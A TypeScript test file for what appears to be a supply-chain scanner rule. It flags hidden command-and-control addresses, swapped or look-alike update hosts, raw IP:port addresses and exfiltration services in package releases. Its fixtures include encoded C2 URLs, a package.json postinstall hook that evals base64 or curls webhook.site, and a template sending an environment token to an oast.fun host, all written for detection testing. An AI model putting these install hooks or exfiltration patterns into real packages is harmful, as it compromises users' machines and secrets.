import { describe, expect, it } from "vitest";
import { compareMembers, contextOf, portraitOf } from "../trait.fixture.ts";
import type { Difference } from "../trait.ts";
import { endpoints } from "./index.ts";

/** A library with strings between zeros, as compilers leave them. */
const library = (...strings: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from("7f454c4602010100", "hex"),
    ...["a string of no interest", ...strings].flatMap((text) => [Buffer.from(text), Buffer.alloc(3)]),
  ]);
const xored = (text: string, key: number, encoding: BufferEncoding = "latin1"): Buffer =>
  Buffer.from(text, encoding).map((byte) => byte ^ key) as Buffer;

async function compared(
  before: Uint8Array | string,
  after: Uint8Array | string,
  { path = "lib/codec.so", format = "elf" } = {},
): Promise<Difference[]> {
  const draw = (bytes: Uint8Array | string) =>
    portraitOf([endpoints], { path, format, bytes: Buffer.from(bytes) });
  return compareMembers(endpoints, await draw(before), await draw(after));
}
const script = { path: "lib/index.js", format: "data" };
const briefly = (differences: readonly Difference[]): string[] =>
  differences.map(({ rule, risk }) => `${risk} ${rule}`);

const C2 = "https://updates.telemetry.invalid/collect?id=7";
const known = "https://www.example-software.invalid/help";

describe("hidden addresses", () => {
  it.each<[string, Buffer | string]>([
    ["under an XOR key", xored(C2, 0x5a)],
    ["under an XOR key, in UTF-16", xored(C2, 0xc3, "utf16le")],
    ["backwards", [...C2].reverse().join("")],
    ["backwards under an XOR key", xored([...C2].reverse().join(""), 0x11)],
    [
      "with rotated letters",
      C2.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97)),
    ],
    ["in base64", Buffer.from(C2).toString("base64")],
    ["in base64, second of its group", Buffer.from(`x${C2}`).toString("base64")],
    ["in base64, third of its group", Buffer.from(`xy${C2}`).toString("base64")],
    ["in base64 of UTF-16", Buffer.from(`iwr ${C2}`, "utf16le").toString("base64")],
    ["in base64 for URLs", Buffer.from(C2).toString("base64url")],
    ["in hexadecimal digits", Buffer.from(C2).toString("hex")],
    ["in escapes", Buffer.from(C2).toString("hex").replace(/../g, "\\x$&")],
    ["as character codes", [...Buffer.from(C2)].join(", ")],
  ])("holds for one %s", async (_how, hidden) => {
    const [difference, ...others] = await compared(library(known), library(known, hidden));
    expect(others).toEqual([]);
    expect(difference).toMatchObject({ rule: "hidden-address", risk: "high" });
    expect(difference?.because).toContain("https://updates.telemetry.invalid/collect?id=7");
  });

  it("says nothing when it was hidden before", async () => {
    expect(await compared(library(xored(C2, 3)), library("more", xored(C2, 3)))).toEqual([]);
  });

  it("is not a matter of what a file is called, but for what texts carry along", async () => {
    const readme = { path: "README.md", format: "data" };
    const map = { path: "lib/index.js.map", format: "data" };
    const manifest = { path: "package.json", format: "data" };
    const base64 = Buffer.from(C2).toString("base64");
    expect(briefly(await compared("x", Buffer.concat([Buffer.from("x"), xored(C2, 9)]), readme))).toEqual([
      "high hidden-address",
    ]);
    expect(briefly(await compared("x", `x ${base64}`, map))).toEqual(["low hidden-address"]);
    const script64 = `{"scripts":{"postinstall":"node -e eval(atob('${base64}'))"}}`;
    expect(briefly(await compared("{}", script64, manifest))).toEqual(["high hidden-address"]);
    const worker = Buffer.from(`"use strict";\n// see ${C2}\nrun();`).toString("base64");
    expect(briefly(await compared("var a;", `var a = "${worker}"`, script))).toEqual(["low hidden-address"]);
  });

  it("stays low for pictures in data URLs, and for certificates", async () => {
    const picture = `url(data:image/svg+xml;base64,${Buffer.from(`<svg><a href="${C2}"/></svg>`).toString("base64")})`;
    const der = Buffer.concat([
      Buffer.from("30820102020101863f", "hex"),
      Buffer.from("http://crl.authority.invalid/root.crl"),
    ]);
    const pem = `-----BEGIN CERTIFICATE-----\n${der.toString("base64")}\n-----END CERTIFICATE-----`;
    for (const text of [picture, pem])
      expect(briefly(await compared("var a;", text, script))).toEqual(["info other-addresses"]);
  });

  it("stays info for namespaces, whatever they are written in", async () => {
    const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">`).toString("base64");
    expect(await compared("var a;", `var a = "${svg}"`, script)).toEqual([]);
  });
});

describe("swapped hosts", () => {
  const before = 'const feed = "https://updates.example-software.invalid/stable/latest.yml";\n';
  it("holds when an address stays the same but for its host", async () => {
    const after = before.replace("updates.example-software", "updates.example-softwares");
    expect(briefly(await compared(before, after, script))).toEqual(["high look-alike-host"]);
    const other = before.replace("updates.example-software", "cdn-delivery");
    expect(briefly(await compared(before, other, script))).toEqual(["high swapped-host"]);
    const native = library(C2.replace("telemetry", "elsewhere"));
    expect(briefly(await compared(library(C2), native))).toEqual(["high swapped-host"]);
  });

  it("holds in a statement that a semicolon begins, and not in a comment that one begins", async () => {
    const other = (text: string) => text.replace("updates.example-software", "cdn-delivery");
    const statement = `var first = 1\n;${before}`;
    expect(briefly(await compared(statement, other(statement), script))).toEqual(["high swapped-host"]);
    const comment = "; the feed is https://updates.example-software.invalid/stable/latest.yml\nmov eax, 1\n";
    expect(briefly(await compared(comment, other(comment), script))).toEqual(["low swapped-host"]);
  });

  it("holds for the only address of a setting", async () => {
    const setting = { path: "resources/app-update.yml", format: "data" };
    const feed = "provider: generic\nurl: https://example-software.invalid\n";
    const other = feed.replace("example-software", "quite-another");
    expect(briefly(await compared(feed, other, setting))).toEqual(["high swapped-host"]);
    expect(briefly(await compared(feed, `${feed}channel: beta\n`, setting))).toEqual([]);
  });

  it("stays low for pages that moved, and info within the same domain", async () => {
    const docs = 'throw new Error("see https://docs.old-home.invalid/guide/errors.html");';
    expect(briefly(await compared(docs, docs.replace("old-home", "new-place"), script))).toEqual([
      "low swapped-host",
    ]);
    const within = before.replace("updates.example", "downloads.example");
    expect(briefly(await compared(before, before + within, script))).toEqual(["info other-addresses"]);
  });

  it("does not mind what is written for people", async () => {
    const readme = { path: "README.md", format: "data" };
    const moved = before.replace("example-software", "quite-another");
    for (const differences of [
      await compared(before, moved, readme),
      await compared(`// ${before}`, `// ${moved}`, script),
    ])
      expect(differences.map(({ risk }) => risk).filter((risk) => risk !== "info" && risk !== "low")).toEqual(
        [],
      );
  });
});

describe("numbers of machines", () => {
  it.each(["http://203.0.113.7/a", "203.0.113.7:4444", "tcp://198.51.100.9:8443"])(
    "holds for %s",
    async (text) => {
      expect(briefly(await compared(library(known), library(known, text)))).toEqual(["high numeric-address"]);
      expect(briefly(await compared("var a;", `connect("${text}")`, script))).toEqual([
        "high numeric-address",
      ]);
    },
  );

  it("holds in UTF-16 and in a text without gaps", async () => {
    const wide = Buffer.from("203.0.113.7:4444", "utf16le");
    for (const text of [wide, "retry203.0.113.7:4444failed"])
      expect(briefly(await compared(library(known), library(known, text)))).toEqual(["high numeric-address"]);
  });

  it.each([
    ["a version", "version 10.0.19041.1", "6.0.4.2"],
    ["this machine", "http://127.0.0.1:8080/", "127.0.0.1:9229"],
    ["an inner network", "http://192.168.1.1/", "10.1.2.3:80"],
  ])("does not take %s for one", async (_what, ...texts) => {
    const differences = await compared(library(known), library(known, ...texts));
    expect(differences.filter(({ risk }) => risk !== "info")).toEqual([]);
  });

  it("does not hold in tests and examples, which speak of much that nobody does", async () => {
    for (const path of ["test/proxy.js", "lib/proxy.test.mjs", "tests/test_proxy.py"]) {
      const place = { path, format: "data" };
      expect(briefly(await compared("var a;", 'get("http://203.0.113.7/a")', place))).toEqual([
        "medium numeric-address",
      ]);
    }
  });

  it("stays low for a public resolver, and info in a comment", async () => {
    expect(briefly(await compared(library(known), library(known, "8.8.8.8:53")))).toEqual([
      "low numeric-address",
    ]);
    expect(briefly(await compared("var a;", "// as in http://203.0.113.7/a\n", script))).toEqual([
      "info other-addresses",
    ]);
  });
});

describe("services", () => {
  it.each([
    "https://webhook.site/0b7e",
    "https://discord.com/api/webhooks/1/abc",
    "https://api.telegram.org/bot123:abc/sendMessage",
    "https://pastebin.com/raw/abcd",
    "https://x1.trycloudflare.com/",
    "http://expyuzz4wqqyqhjn.onion/",
  ])("holds for %s", async (text) => {
    expect(briefly(await compared("var a;", `fetch("${text}")`, script))).toEqual(["high service"]);
    expect(briefly(await compared(library(known), library(known, text)))).toEqual(["high service"]);
  });

  it.each([
    '"api.telegram.org"',
    ["`https://$", "{process.env.TOKEN}.oast.fun/`"].join(""),
    '"https://" + data + ".oastify.com"',
    "{ hostname: 'webhook.site', port: 443 }",
    '"https://%s.trycloudflare.com/"',
  ])("holds for %s, of which a part is put together", async (text) => {
    expect(briefly(await compared("var a;", `send(${text})`, script))).toEqual(["high service"]);
  });

  it("holds in the commands of a package, not in its description", async () => {
    const manifest = { path: "package.json", format: "data" };
    const command = '{"scripts":{"postinstall":"curl https://webhook.site/1"}}';
    expect(briefly(await compared("{}", command, manifest))).toEqual(["high service"]);
    const badge = '{"icon":"https://raw.githubusercontent.com/a/b/c.png","homepage":"https://new.invalid"}';
    expect(briefly(await compared("{}", badge, manifest))).toEqual(["info other-addresses"]);
  });

  it("is milder where people are sent, and where the class was used before", async () => {
    const sentence = 'console.warn("Read more: https://bit.ly/example");';
    expect(briefly(await compared("var a;", sentence, script))).toEqual(["low service"]);
    const first = 'get("https://raw.githubusercontent.com/a/b/main/c.json");';
    expect(briefly(await compared("var a;", first, script))).toEqual(["medium service"]);
    expect(
      briefly(await compared(first, `${first}get("https://raw.githubusercontent.com/d/e")`, script)),
    ).toEqual(["low service"]);
  });

  it("holds for files out of a repository when a library spoke of no host", async () => {
    const text = "https://raw.githubusercontent.com/example/images/main/icon%d.ico";
    expect(briefly(await compared(library(), library(text)))).toEqual(["high service"]);
  });
});

describe("new hosts", () => {
  it("shows them to a reviewer and does not hold", async () => {
    expect(briefly(await compared(library(known), library(known, "https://api.vendor.invalid/v2")))).toEqual([
      "info new-host",
    ]);
    expect(briefly(await compared(library(), library("https://api.vendor.invalid/v2")))).toEqual([
      "medium first-host",
    ]);
    expect(briefly(await compared(library(), library("api.vendor.com")))).toEqual(["medium first-host"]);
  });

  it("shows all of a release at once", async () => {
    const draw = (path: string, text: string) => portraitOf([endpoints], { path, bytes: Buffer.from(text) });
    const pairs = [];
    for (const name of ["one", "two"])
      pairs.push({
        before: await draw(`lib/${name}.js`, "var a;"),
        after: await draw(`lib/${name}.js`, `get("https://api.${name}.invalid/")`),
        how: "path" as const,
      });
    const told = [...(endpoints.compareReleases?.(contextOf(pairs)) ?? [])];
    expect(told).toMatchObject([
      { rule: "new-host", risk: "low", because: "speaks of one.invalid and two.invalid", path: "lib/one.js" },
    ]);
    expect([
      ...(endpoints.compareReleases?.(
        contextOf(pairs.map(({ after }) => ({ before: after, after, how: "path" as const }))),
      ) ?? []),
    ]).toEqual([]);
  });

  it("does not mind a host that another member spoke of", async () => {
    const draw = (path: string, text: string) =>
      portraitOf([endpoints], { path, format: "elf", bytes: library(text) });
    const other = { before: await draw("b", C2), after: await draw("b", C2), how: "path" as const };
    const pair = { before: await draw("a", "x"), after: await draw("a", C2), how: "path" as const };
    expect(briefly([...(endpoints.compare?.(pair, contextOf([pair, other])) ?? [])])).toEqual([
      "info other-addresses",
    ]);
  });

  it("does not take for new what was beyond the last one kept", async () => {
    const many = (skipped: number) =>
      Array.from({ length: 2_000 }, (_, index) =>
        index < skipped ? "" : `https://h${1000 + index}.invalid/a`,
      );
    const differences = await compared(library(...many(0)), library(...many(400)));
    expect(differences.filter(({ rule }) => rule !== "too-many-addresses")).toEqual([]);
  });

  it("holds code in which one address could hide among many, and no list that grew", async () => {
    const many = (count: number) =>
      Array.from({ length: count }, (_, index) => `"https://h${1000 + index}.invalid/a"`).join(",\n");
    const risks = async (before: string, after: string, draw?: typeof script) =>
      (await compared(before, after, draw))
        .filter(({ rule }) => rule === "too-many-addresses")
        .map(({ risk }) => risk);
    expect(await risks("var a;", `var a = [${many(2_000)}]`, script)).toEqual(["high"]);
    expect(await risks(`var a = [${many(2_000)}]`, `var a = [${many(2_001)}]`, script)).toEqual(["low"]);
  });

  it("takes no property or file name for a host", async () => {
    const code =
      'a("console.info", "node.js", "$" + "{host}.com", "https://$" + "{host}/x", "http://www.com");';
    expect(await compared("var a;", code.replaceAll('" + "', ""), script)).toEqual([]);
  });
});
